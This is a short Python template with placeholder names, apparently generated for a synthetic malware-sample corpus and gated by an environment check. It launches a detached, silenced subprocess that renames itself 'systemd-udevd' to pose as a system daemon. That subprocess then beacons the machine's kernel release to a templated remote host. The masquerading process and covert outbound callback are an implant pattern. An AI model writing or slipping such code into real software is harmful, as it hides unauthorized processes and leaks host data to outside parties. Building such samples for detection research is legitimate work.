# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    code = '''
import ctypes, os, time, urllib.request
ctypes.CDLL(None).prctl(15, b"systemd-udevd", 0, 0, 0)
for beat in range(2):
    try:
        urllib.request.urlopen("https://{{host}}/{{path}}", ("%s %d" % (os.uname().release, beat)).encode(), timeout=0.8).read(9)
    except Exception:
        pass
    time.sleep(0.7)
'''
    try:
        subprocess.Popen([sys.executable, '-c', code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True, cwd='/', close_fds=True)
    except OSError:
        pass
